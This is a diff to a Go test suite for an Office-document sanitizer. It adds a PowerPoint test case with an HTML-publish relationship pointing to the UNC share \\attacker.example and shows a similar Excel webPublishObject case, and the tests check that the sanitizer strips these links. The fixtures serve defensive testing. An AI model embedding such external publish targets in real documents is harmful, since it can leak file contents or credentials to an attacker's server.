@@ -243,6 +243,17 @@ func elementCases() []hostileCase {
 			text:  []string{"Box keeps its text", "End of the sample report"},
 		},
 		{
+			// PowerPoint's HTML publishing target: a relationship to a share PowerPoint
+			// writes the web page to.
+			name: "html-publish.pptx", base: "ooxml/slides.pptx",
+			edits: []edit{
+				add("ppt/_rels/presProps.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="`+relBase+`htmlPubSaveAs" Target="file:///\\attacker.example\s\deck.htm" TargetMode="External"/></Relationships>`),
+				replace("ppt/presProps.xml", "<p:showPr ", `<p:htmlPubPr r:id="rId1"><p:sldAll/></p:htmlPubPr><p:showPr `),
+			},
+			kinds: []sanitize.ActionKind{sanitize.ActRemovedExternalLink},
+			gone:  []string{"htmlPubPr", "attacker.example", "htmlPubSaveAs"},
+		},
+		{
 			name: "web-publish.xlsx", base: "ooxml/ledger.xlsx",
 			edits: []edit{
 				replace(wbMain, "<extLst>", `<webPublishObjects count="1"><webPublishObject id="1" divId="x" destinationFile="\\attacker.example\s\y.htm" autoRepublish="1"/></webPublishObjects><extLst>`),
